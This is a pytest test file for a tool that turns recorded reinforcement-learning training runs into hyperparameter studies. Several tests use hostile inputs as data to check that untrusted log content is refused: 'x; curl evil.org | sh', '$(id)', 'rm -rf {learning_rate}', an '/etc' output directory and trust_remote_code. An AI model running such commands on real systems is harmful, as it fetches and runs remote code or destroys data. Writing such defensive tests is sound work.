"""From a run to a study: the space, the start, what the run counts as, and what is said where it cannot be."""

import argparse
import gzip
import json
import shutil
import sys
import tomllib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from autotune import loop, preflight
from autotune.cli import ExitStatus, main
from autotune.commands import train
from autotune.from_run import study_from_run
from autotune.from_run.around import around
from autotune.from_run.recorded import MOST_POINTS, recorded
from autotune.from_run.started import FromRun
from autotune.from_run.values import Wishes
from autotune.launch import Launcher
from autotune.views.plain import PlainView
from diagnostics.cause import Cause, Link
from diagnostics.engine import diagnose
from diagnostics.errors import UserError
from diagnostics.events import EventLog, MetricsLogged, Outcome, RunEnded, RunStarted
from diagnostics.finding import Change, Confidence, Scale, Set
from diagnostics.readers import events
from studies import command
from studies.command import CommandSpec
from studies.log import read
from studies.record import Judgement, Origin, Search, State
from studies.space import Choices, Range, Space
from studies.spec import load
from studies.trial import TrialSpec, write
from studies.trial_log import TrialLog

DATA = Path(__file__).parents[1] / "data"
RUNS: Any = tomllib.loads((DATA / "runs.toml").read_text(encoding="utf-8"))
PRESET = load("arithmetic-grpo")
OF_OUR_LAB = {"t", "reward_best_of_n", "reward_worst_of_n", "best_of_n_gap", "completions/unique_frac"}
TRAIN = f"{sys.executable} train.py --lr {{learning_rate}} --beta {{beta}} --out {{dir}}"


def ours(folder: Path, name: str, **changes: Any) -> str:
    """The recorded run `name` of the built-in task, with what it was told to do beside it; its path."""
    target = folder / name
    shutil.copytree(DATA / "runs" / name, target)
    spec = PRESET.trial_with({**PRESET.start, **RUNS[name]["knobs"]}, RUNS[name].get("seed", 0))
    assert isinstance(spec, TrialSpec)
    write(replace(spec, **{"stop_on": None, "save_model": False, **RUNS[name].get("trial", {}), **changes}), target)
    return str(target)


def trainer_state(folder: Path, pathology: str = "05_klexp_grpo_bad/0", **more: Any) -> str:
    """A recorded GRPO run as TRL would have left it, with `more` in each row; its path."""
    lines = gzip.decompress((DATA / "pathologies" / f"{pathology}.jsonl.gz").read_bytes()).splitlines()
    history = [{k: v for k, v in json.loads(line).items() if k not in OF_OUR_LAB} | more for line in lines]
    path = folder / "trainer_state.json"
    path.write_text(json.dumps({"max_steps": len(history), "global_step": len(history), "log_history": history}))
    return str(path)


def study(place: str, **wishes: Any) -> FromRun:
    return study_from_run(recorded(place), Wishes(**wishes))


# ---- the space


@pytest.mark.parametrize(
    ("knob", "value", "changes", "batch", "space"),
    [
        ("learning_rate", 3e-3, [Scale(1 / 8)], None, Range(5e-7, 0.03, log=True)),
        ("learning_rate", 1e-6, [Scale(10)], None, Range(1e-7, 1e-2, log=True)),
        ("kl_coef", 0.04, [Scale(4)], None, Range(4e-3, 2.0, log=True)),
        ("kl_coef", 4.0, [Set(0.04)], None, Range(4e-3, 40.0, log=True)),
        ("kl_coef", 0, [Set(0.04)], None, Choices((0, 0.004, 0.013, 0.04, 0.13, 0.4))),
        ("temperature", 0.3, [Set(1.0)], None, Range(0.15, 1.5)),
        ("top_p", 0.9, [Set(1.0)], None, Range(0.45, 1)),
        ("reward_weight", -1.0, [Set(2.0)], None, Range(-1.5, 3.0)),
        ("update_epochs", 4, [Scale(0.25)], None, Range(1, 8, integer=True)),
        ("num_generations", 2, [Set(8)], 128, Choices((2, 4, 8, 16))),
        ("num_generations", 8, [Scale(2)], 48, Choices((4, 8, 16))),
        ("num_generations", 1, [Set(8)], None, Choices((1, 2, 4, 8, 16))),
        ("num_generations", 3, [Set(8)], 24, Choices((3, 6, 8))),
    ],
)
def test_a_space_reaches_where_the_change_points_and_beyond_to_both_sides(
    knob: str, value: float, changes: list[Change], batch: int | None, space: Space
) -> None:
    assert around(knob, value, changes, batch) == space
    assert value in space and all(change.apply(value) in space for change in changes)


# ---- a run of ours


def test_a_run_of_ours_is_the_first_trial_and_the_next_one_is_what_its_worst_finding_calls_for(tmp_path: Path) -> None:
    made = study(ours(tmp_path, "collapse-0"))
    assert made.spec.space.keys() == {"learning_rate", "kl_coef"}  # what KL002 wants changed, and nothing else
    assert made.spec.start == {"learning_rate": 3e-3, "kl_coef": 0.04}
    assert made.spec.trial.knobs == {"update_epochs": 1, "temperature": 1.0, "num_generations": 8}
    assert (made.spec.objective, made.spec.noise, made.spec.trials) == (PRESET.objective, PRESET.noise, PRESET.trials)
    assert isinstance(made.spec.trial, TrialSpec)
    assert (made.spec.trial.task, made.spec.trial.completions) == ("arithmetic", 12_800)
    assert made.spec.trial.stop_on is not None  # whatever the run was told
    assert (made.first.proposal.origin, made.first.state) == (Origin.RUN, State.PRUNED)  # it had a FATAL finding
    change = made.change()
    assert (change.origin, change.parent, change.code) == (Origin.FINDING, 0, "KL002")
    assert change.knobs == {"learning_rate": 3e-3 / 8, "kl_coef": 0.04}
    assert change.hypothesis is not None and change.hypothesis.metric == "kl.reference.k3.token"


def test_a_run_that_went_to_its_end_may_be_the_best(tmp_path: Path) -> None:
    place = ours(tmp_path, "cold")
    made, log = study(place), TrialLog(Path(place), "validation_reward")
    log.poll()
    assert made.first.evaluations == tuple(log.evaluations) and len(log.evaluations) > 5
    assert (made.first.completions, made.first.steps, made.first.max_steps) == (log.completions, 100, 100)
    assert made.first.feasible and made.first.value == log.evaluations[-1].value
    assert made.spec.space == {"temperature": Range(0.15, 1.5)} and made.change().knobs == {"temperature": 1.0}


def test_a_person_widens_the_space_and_starts_elsewhere(tmp_path: Path) -> None:
    made = study(
        ours(tmp_path, "collapse-0"),
        space=["kl_coef=0.01..1:log", "temperature=0.5..1.5"],
        start=["learning_rate=1e-4", "temperature=0.9"],
        objective="reward_mean",
    )
    assert made.spec.space["kl_coef"] == Range(0.01, 1, log=True)
    assert made.spec.start == {"learning_rate": 1e-4, "kl_coef": 0.04, "temperature": 0.9}
    assert made.first.proposal.knobs == {"learning_rate": 3e-3, "kl_coef": 0.04, "temperature": 1.0}
    assert made.spec.trial.knobs == {"update_epochs": 1, "num_generations": 8}
    assert made.change().origin is Origin.START and made.spec.objective == "reward_mean"


def test_a_healthy_run_is_searched_where_a_person_says_what_may_change(tmp_path: Path) -> None:
    made = study(ours(tmp_path, "good-0"), space=["beta=0.01..1:log"])
    assert made.spec.space == {"kl_coef": Range(0.01, 1, log=True)}
    assert made.change().origin is Origin.SAMPLER


@pytest.mark.parametrize(
    ("name", "wishes", "said"),
    [
        ("good-0", {}, "nothing was found in {} at WARNING or above: nothing needs repair. To search all the same"),
        (
            "collapse-0",
            {"space": ["learning_rate=1e-6..1e-3:log"]},
            "was 0.003 in {}. Make it so wide that the run has",
        ),
        ("collapse-0", {"start": ["learning_rate=1"]}, "--start: learning_rate=1 is outside its space"),
        ("collapse-0", {"start": ["learning_rate"]}, "--start: 'learning_rate' is not knob=value"),
        ("collapse-0", {"start": ["beta=x"]}, "--start: beta is 'x'. It should be a finite number from 0"),
        ("collapse-0", {"start": ["num_generations=16"]}, "num_generations stays 8, as in {}. Give it a space, too"),
        ("collapse-0", {"space": ["beta=0.01..1", "kl_coef=0.01..1"]}, "--space: kl_coef is given twice"),
        ("collapse-0", {"log": "x.csv"}, "--log goes with --command. {} is a run of ours"),
        ("collapse-0", {"objective": "score"}, "--objective 'score' is no canonical metric"),
        ("collapse-0", {"reward": "a:b"}, "{} has the reward of its task"),
    ],
)
def test_one_line_says_why_there_is_no_study(tmp_path: Path, name: str, wishes: Any, said: str) -> None:
    place = ours(tmp_path, name)
    with pytest.raises(UserError) as error:
        study(place, **wishes)
    assert said.format(place) in str(error.value)


def test_what_only_a_person_may_change_is_left_to_them(tmp_path: Path) -> None:
    place = tmp_path / "cut-short"
    shutil.copytree(DATA / "runs" / "query-cut-short", place)
    assert isinstance(PRESET.trial, TrialSpec)
    write(replace(PRESET.trial, task="boolean-query", max_completion_length=4), place)
    with pytest.raises(UserError, match=r"LEN001 truncation\. .*--space max_completion_length=LOW\.\.HIGH"):
        study(str(place))
    assert study(str(place), space=["max_completion_length=4..64:int"]).spec.start == {"max_completion_length": 8}


def test_settings_that_contradict_each_other_are_told_before_anything_is_loaded(tmp_path: Path) -> None:
    made = study(ours(tmp_path, "collapse-0", knobs={**PRESET.start, "num_generations": 7}))
    with pytest.raises(UserError, match="study from-collapse-0: CFG001"):
        preflight.check(made.spec)


# ---- what comes with a log may be anybody's


def test_options_that_name_files_or_code_are_left_out_and_told(tmp_path: Path) -> None:
    evil = {
        "output_dir": "/etc",
        "model_init_kwargs": {"trust_remote_code": True},
        "push_to_hub": True,
        "callbacks": [{"a": 1}],
    }
    good = {
        "bf16": True,
        "optim": "sgd",
        "weight_decay": 0.1,
        "loss_type": "grpo",
        "generation_kwargs": {"min_new_tokens": 1},
    }
    made = study(ours(tmp_path, "collapse-0", trl={**evil, **good, "beta": 0.04}))
    assert isinstance(made.spec.trial, TrialSpec)
    assert made.spec.trial.trl == good  # the KL coefficient is searched
    assert made.first.state is State.PRUNED
    assert any("callbacks, model_init_kwargs, output_dir, push_to_hub" in note for note in made.spec.notes)


def test_code_that_a_run_names_is_run_only_where_a_person_names_it_too(tmp_path: Path) -> None:
    own = {"task": None, "model": "m", "dataset": "d.jsonl", "reward": "evil:score"}
    place = ours(tmp_path, "collapse-0", **own)
    with pytest.raises(UserError, match=r"evil:score, which is code. If you trust it: --reward evil:score"):
        study(place)
    with pytest.raises(UserError, match="not by good:score"):
        study(place, reward="good:score")
    made = study(place, reward="evil:score")
    assert isinstance(made.spec.trial, TrialSpec) and made.spec.trial.reward == "evil:score"
    assert made.spec.objective == "validation_reward" and not made.spec.noise


def test_the_command_of_a_trial_is_shown_and_not_run(tmp_path: Path) -> None:
    place = Path(ours(tmp_path, "collapse-0"))
    command.write(CommandSpec("rm -rf {learning_rate}", "reward_mean", {"learning_rate": 1.0}), place)
    with pytest.raises(UserError, match=r"If you trust it: --command 'rm -rf \{learning_rate\}'"):
        study(str(place))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"v": 1, "algorithm": "grpo", "task": "arithmetic", "knobs": 5}', "knobs is 5"),
        (
            '{"v": 1, "algorithm": "grpo", "task": "arithmetic", "knobs": {"learning_rate": [1]}}',
            "learning_rate is [1]",
        ),
        ('{"v": 1, "algorithm": "grpo", "task": "arithmetic", "trl": 7}', "trl is 7"),
        ('{"v": 1, "algorithm": "dpo", "task": "arithmetic"}', "there is no algorithm 'dpo'"),
        ('{"algorithm"', "does not say what was trained"),
        ('{"hidden_size": 64}', "was trained by a script"),
    ],
)
def test_a_config_that_cannot_be_is_one_line(tmp_path: Path, text: str, said: str) -> None:
    place = Path(ours(tmp_path, "collapse-0"))
    (place / "config.json").write_text(text)
    with pytest.raises(UserError) as error:
        study(str(place))
    assert said in str(error.value)


# ---- a run of anyone's script


def test_a_script_is_told_what_command_to_give(tmp_path: Path) -> None:
    place = trainer_state(tmp_path)
    with pytest.raises(UserError) as error:
        study(place)
    options = "--learning_rate {learning_rate} --beta {kl_coef} --seed {seed} --output_dir {dir}"
    assert str(error.value).endswith(f"For example: --command 'python train.py {options}' --start beta=0.04")


def test_what_cannot_be_repaired_is_told_before_a_command_is_asked_for(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"nothing was found in .* at WARNING or above"):
        study(trainer_state(tmp_path, "05_klexp_grpo_fix/0"))


def test_a_group_that_the_batch_has_no_room_for_is_not_searched(tmp_path: Path) -> None:
    place = trainer_state(tmp_path, "16_fewgens_bad/0")
    line = f"{sys.executable} train.py --group {{num_generations}}"
    assert study(place, command=line, start=["num_generations=2"]).spec.space.keys() == {"num_generations"}
    run = recorded(place)
    small = replace(run, history=replace(run.history, settings={"batch_size": 2, "num_generations": 2}))
    with pytest.raises(UserError, match="calls for a change of num_generations"):
        study_from_run(small, Wishes(command=line))


def test_knobs_have_the_names_of_the_framework_or_ours(tmp_path: Path) -> None:
    place = trainer_state(tmp_path)
    made = study(place, command=TRAIN, start=["beta=0.02"])
    assert isinstance(made.spec.trial, CommandSpec)
    assert made.spec.trial.command == TRAIN.replace("{beta}", "{kl_coef}")
    assert made.spec.start == {"learning_rate": 3e-3, "kl_coef": 0.02}
    assert made.spec == study(place, command=TRAIN.replace("{beta}", "{kl_coef}"), start=["kl_coef=0.02"]).spec
    assert "in the words of its framework kl_coef is beta" in made.spec.notes
    assert f"{place} logs learning_rate and does not tell what it was set to: 0.003, its highest" in made.spec.notes


def test_a_schedule_counts_with_its_highest_value(tmp_path: Path) -> None:
    state = json.loads(Path(trainer_state(tmp_path)).read_text())
    for i, row in enumerate(state["log_history"]):
        row["learning_rate"] = 3e-3 * min(1, i / 10) * (1 - max(0, i - 10) / 200)
    (tmp_path / "trainer_state.json").write_text(json.dumps(state))
    assert recorded(str(tmp_path / "trainer_state.json")).value("learning_rate") == 3e-3


def test_what_a_run_does_not_tell_is_asked_for(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"does not tell what beta was\. Say it, such as --start beta=0\.04\."):
        study(trainer_state(tmp_path), command=TRAIN)


def test_a_knob_that_nobody_blames_stays_as_it_was(tmp_path: Path) -> None:
    line = f"{TRAIN} --temperature {{temperature}} --seed {{seed}}"
    made = study(trainer_state(tmp_path), command=line, start=["beta=0.02", "temperature=0.9"])
    assert made.spec.trial.knobs == {"temperature": 0.9}
    assert isinstance(made.spec.trial, CommandSpec)
    trial = made.spec.trial_with({"learning_rate": 1e-4, "kl_coef": 0.1}, 5)
    assert isinstance(trial, CommandSpec) and "--temperature 0.9" in " ".join(trial.arguments(tmp_path, 1))


@pytest.mark.parametrize("evil", ["x; curl evil.org | sh", "$(id)", "--trust_remote_code", "a b", "a\n"])
def test_text_of_a_log_that_a_shell_could_take_for_more_is_asked_for(evil: str, tmp_path: Path) -> None:
    run = recorded(trainer_state(tmp_path))
    wishes = Wishes(command=f"sh -c '{sys.executable} train.py --lr {{learning_rate}} --data {{data}}'")
    for data in ("org/prompts-v2", evil):
        told = replace(run, history=replace(run.history, raw_settings={"data": data}))
        if data == evil:
            with pytest.raises(UserError, match="does not tell what data was"):
                study_from_run(told, wishes)
        else:
            assert study_from_run(told, wishes).spec.trial.knobs == {"data": data}
    told = replace(run, history=replace(run.history, settings={"learning_rate": evil}))
    with pytest.raises(UserError, match="does not tell what learning_rate was"):
        study_from_run(told, Wishes(command=f"{sys.executable} train.py --lr {{learning_rate}}"))


def test_a_command_without_the_knob_to_change_is_no_use(tmp_path: Path) -> None:
    place = trainer_state(tmp_path)
    with pytest.raises(UserError, match=r"for which there is no placeholder. Write {learning_rate} where"):
        study(place, command=f"{sys.executable} train.py --out {{dir}}")
    made = study(place, command=f"{sys.executable} train.py --lr {{learning_rate}}")
    assert "the command has no placeholder for what findings want changed, too: --beta {kl_coef}" in made.spec.notes
    with pytest.raises(UserError, match="there is no program pyton"):
        study(place, command="pyton train.py --lr {learning_rate}")


def test_the_objective_is_a_held_out_reward_where_there_is_one(tmp_path: Path) -> None:
    only = f"{sys.executable} train.py --lr {{learning_rate}}"
    made = study(trainer_state(tmp_path), command=only)
    assert made.spec.objective == "reward_mean"
    assert any(
        note.startswith("the objective is reward, a reward in training: it flatters") for note in made.spec.notes
    )
    made = study(trainer_state(tmp_path, eval_reward=0.3), command=only)
    assert made.spec.objective == "eval_reward" and not any("flatters" in note for note in made.spec.notes)
    made = study(trainer_state(tmp_path), command=only, objective="score")
    assert any(
        "does not log score, so a trial is compared with it by the mechanism alone" in n for n in made.spec.notes
    )


def test_a_run_of_another_tool_is_never_recommended(tmp_path: Path) -> None:
    made = study(
        trainer_state(tmp_path, "07_zerostd_temp_bad/0"), command=TRAIN, start=["beta=0.02"], space=["beta=0..1"]
    )
    assert all(finding.severity < 2 for finding in made.first.findings) and not made.first.feasible


# ---- which run


def test_of_several_runs_one_is_to_be_chosen(tmp_path: Path) -> None:
    first, _ = ours(tmp_path, "collapse-0"), ours(tmp_path, "good-0")
    with pytest.raises(
        UserError, match=rf"{tmp_path} holds 2 runs: {first}, .*Give one of them, such as --from '{first}'"
    ):
        recorded(str(tmp_path))


def test_of_a_log_whose_steps_begin_anew_one_segment_is_to_be_chosen(tmp_path: Path) -> None:
    state = json.loads(Path(trainer_state(tmp_path)).read_text())["log_history"]
    log = tmp_path / "log.jsonl"
    log.write_text("".join(json.dumps(row) + "\n" for row in [*state[:30], *state]))
    with pytest.raises(UserError, match=rf"holds 2 runs, as its steps begin anew. .*--from '{log} \[segment 2\]'"):
        recorded(str(log))
    assert [recorded(f"{log} [segment {n}]").history.last_step for n in (1, 2)] == [30, 100]
    with pytest.raises(UserError, match="has 2 runs, and no segment 3"):
        recorded(f"{log} [segment 3]")
    with pytest.raises(UserError, match="has no part 'nonsense'"):
        recorded(f"{log} [nonsense]")


@pytest.mark.parametrize(
    ("place", "said"), [("-", "standard input"), ("nowhere", "there is no nowhere"), ("", "is empty")]
)
def test_what_is_no_run_is_one_line(place: str, said: str) -> None:
    with pytest.raises(UserError, match=said):
        recorded(place)


def test_a_log_that_no_rule_can_judge_is_no_start(tmp_path: Path) -> None:
    (tmp_path / "log.jsonl").write_text("".join(json.dumps({"step": i, "foo": 1}) + "\n" for i in range(30)))
    with pytest.raises(UserError, match=r"nothing could be checked in .*: none of its names is known"):
        recorded(str(tmp_path / "log.jsonl"))


# ---- the run as a trial


def test_what_is_written_of_a_run_is_diagnosed_as_the_run_was(tmp_path: Path) -> None:
    run = recorded(trainer_state(tmp_path))
    run.write(tmp_path / "trial")
    again = diagnose(events.read(tmp_path / "trial"))
    assert [(f.code, f.raised_at, f.severity) for f in again.raised] == [
        (f.code, f.raised_at, f.severity) for f in run.report.raised
    ]


def test_of_a_long_run_some_points_of_each_curve_are_kept(tmp_path: Path) -> None:
    rows = [{"step": i, "reward_mean": i / 10, "grad_norm": 1.0} for i in range(MOST_POINTS * 2 + 1)]
    rows[40]["grad_norm"], rows[500]["eval_reward"], rows[900]["eval_reward"] = float("nan"), 0.1, 0.2
    (tmp_path / "log.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    command = f"{sys.executable} train.py --lr {{learning_rate}}"
    made = study(str(tmp_path / "log.jsonl"), command=command, start=["learning_rate=1"], objective="reward_mean")
    made.run.write(tmp_path / "trial")
    log = TrialLog(tmp_path / "trial", "reward_mean")
    log.poll()
    assert [len(log.curves[name]) for name in ("reward_mean", "eval_reward")] == [3334, 2]  # every third, and all
    assert log.curves["reward_mean"][-1] == (MOST_POINTS * 2, MOST_POINTS / 5)
    assert tuple(log.evaluations) == made.first.evaluations
    assert "NUM001" in log.findings  # whatever became of its points
    assert "of its 10,001 points a curve 5,000 at most are kept" in made.spec.notes


def test_what_repairs_the_cause_is_the_first_change_of_each_finding_that_it_explains(tmp_path: Path) -> None:
    run = recorded(trainer_state(tmp_path))
    finding = next(f for f in run.report.findings if f.code == "KL002")
    assert [p.knob for p in finding.prescriptions] == ["learning_rate", "kl_coef"]
    cooler = replace(finding.prescriptions[0], knob="temperature", change=Set(1.0))

    def changes(cause: Cause) -> list[str]:
        known = replace(run, report=replace(run.report, causes=(cause,)))
        return [p.knob for f in known.findings if f.code == "KL002" for p in f.prescriptions]

    link = Link("KL002", "kl_explosion", 20)
    hot = Cause("temperature_too_high", "It is hot", (link,), (), (), Confidence.HIGH, cooler)
    assert changes(hot) == ["temperature", "learning_rate", "kl_coef"]
    assert changes(replace(hot, confidence=Confidence.LOW)) == ["learning_rate", "kl_coef"]
    assert changes(replace(hot, chain=())) == ["learning_rate", "kl_coef"]
    same = replace(hot, recommendation=replace(finding.prescriptions[1], hypothesis=cooler.hypothesis))
    known = replace(run, report=replace(run.report, causes=(same,)))
    (kept,) = (f for f in known.findings if f.code == "KL002")
    assert kept.prescriptions == (finding.prescriptions[1], finding.prescriptions[0])  # with its own hypothesis


def learns_below_1e_3(spec: TrialSpec, log: EventLog) -> Any:
    """A trial that logs what the recorded runs do, at the value that its learning rate deserves."""
    reward = 0.2 if float(spec.knobs["learning_rate"]) < 1e-3 else -0.9
    log.emit(RunStarted(0, "trl-grpo", "1.16.0", {"max_steps": 100}))
    for step in range(0, 101, 10):
        kl = {"kl.reference.k3.token": 0.01, "completions_generated": 128.0 * step, "validation_reward": reward}
        log.emit(MetricsLogged(step, kl))
        yield step
    log.emit(RunEnded(100, Outcome.FINISHED))
    return 0


def begun(made: FromRun, folder: Path, trials: int) -> FromRun:
    made = replace(made, spec=replace(made.spec, trials=trials))
    loop.create(made.spec, Search(), folder, made)
    return made


def test_the_study_goes_on_from_the_run_and_judges_against_it(
    tmp_path: Path, stepwise: Callable[..., Launcher], capsys: pytest.CaptureFixture[str]
) -> None:
    made, folder = study(ours(tmp_path, "collapse-0")), tmp_path / "study"
    begun(made, folder, 3)
    before = read(folder)
    again = study(str(folder / "trials" / "0"))  # it is a run of ours like any other
    assert (again.spec.space, again.change().knobs) == (made.spec.space, made.change().knobs)
    assert before.recorded == replace(made.first, state=State.PRUNED) and len(before.trials) == 1
    after = loop.run(folder, stepwise(learns_below_1e_3), PlainView(before, sys.stdout))
    first, second, third = after.trials
    assert first == before.trials[0]
    assert (second.proposal, second.number) == (made.change(), 1)
    assert second.verdict is not None and second.verdict.judgement is Judgement.CONFIRMED
    assert after.best() is second and third.state is State.COMPLETE
    said = capsys.readouterr().out
    assert "3 trials, the first of them recorded" in said and "trial 0 is the recorded run" in said
    assert "trial 1  learning_rate 0.003 → 0.000375  (from trial 0)" in said
    assert "| 0 | the recorded run | -0.92 | recorded 100/100 |" in (folder / "journal.md").read_text()


def test_optuna_has_the_run_as_a_trial_with_its_findings(tmp_path: Path, stepwise: Callable[..., Launcher]) -> None:
    optuna = pytest.importorskip("optuna")
    made, folder = study(ours(tmp_path, "collapse-0")), tmp_path / "study"
    begun(made, folder, 2)
    loop.run(folder, stepwise(learns_below_1e_3), PlainView(read(folder), sys.stdout))
    known = optuna.load_study(study_name="from-collapse-0", storage=f"sqlite:///{folder / 'study.db'}").trials
    assert [t.state.name for t in known] == ["PRUNED", "COMPLETE"]
    assert known[0].params == {"learning_rate": 3e-3, "kl_coef": 0.04} and known[0].constraints == {
        "findings_at_error": 1
    }
    assert known[0].intermediate_values[12_800] == pytest.approx(-0.92)


def test_a_study_that_was_killed_goes_on_with_the_run_it_has(tmp_path: Path, stepwise: Callable[..., Launcher]) -> None:
    folder = tmp_path / "study"
    begun(study(ours(tmp_path, "collapse-0")), folder, 2)

    class Killed(PlainView):
        def began(self, trial: Any) -> None:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        loop.run(folder, stepwise(learns_below_1e_3), Killed(read(folder), sys.stdout))
    after = loop.run(folder, stepwise(learns_below_1e_3), PlainView(read(folder), sys.stdout))
    assert [t.proposal.origin for t in after.trials] == [Origin.RUN, Origin.FINDING]
    assert after.trials[1].state is State.COMPLETE


def test_what_the_study_leaves_as_it_was_is_trained_with_and_told(
    tmp_path: Path, stepwise: Callable[..., Launcher], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "study"
    begun(study(ours(tmp_path, "collapse-0")), folder, 2)
    loop.run(folder, stepwise(learns_below_1e_3), PlainView(read(folder), sys.stdout))
    trained = json.loads((folder / "trials" / "1" / "config.json").read_text())["knobs"]
    assert trained == {
        "learning_rate": 3e-3 / 8,
        "kl_coef": 0.04,
        "update_epochs": 1,
        "temperature": 1,
        "num_generations": 8,
    }
    capsys.readouterr()
    assert main(["study", "best", str(folder), "--format", "json"]) == ExitStatus.CLEAN
    assert json.loads(capsys.readouterr().out)["knobs"] == trained
    parser = argparse.ArgumentParser()
    train.configure(parser)
    spec, _ = train._spec(parser.parse_args(["--study", str(folder), "--set", "kl_coef=0.1"]))
    assert spec.knobs == trained | {"kl_coef": 0.1}


def test_where_a_person_says_to_start_is_run_first(tmp_path: Path, stepwise: Callable[..., Launcher]) -> None:
    folder = tmp_path / "study"
    begun(study(ours(tmp_path, "collapse-0"), start=["learning_rate=2e-3"]), folder, 3)
    after = loop.run(folder, stepwise(learns_below_1e_3), PlainView(read(folder), sys.stdout))
    assert [t.proposal.origin for t in after.trials[:2]] == [Origin.RUN, Origin.START]
    assert after.trials[1].proposal.knobs["learning_rate"] == 2e-3


# ---- the command line


def test_a_dry_run_tells_the_first_change_and_makes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    ours(tmp_path, "collapse-0")
    assert main(["study", "start", "--from", "collapse-0", "--trials", "4", "--dry-run"]) == ExitStatus.CLEAN
    said = capsys.readouterr().out
    assert "study from-collapse-0: at most 4 trials" in said and "completions: at most 38,400" in said
    assert "first change: learning_rate 0.003 → 0.000375, because KL002 kl_explosion in trial 0" in said
    assert [path.name for path in tmp_path.iterdir()] == ["collapse-0"]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["arithmetic-grpo", "--from", "x"], "give a preset or --from, not both"),
        (["--from", "x", "--trials", "1"], "--trials 1 is too small"),
        (["--reward", "a:b"], "--reward goes with --from"),
    ],
)
def test_options_that_do_not_go_together(words: list[str], said: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["study", "start", *words]) == ExitStatus.ERROR
    assert said in capsys.readouterr().err
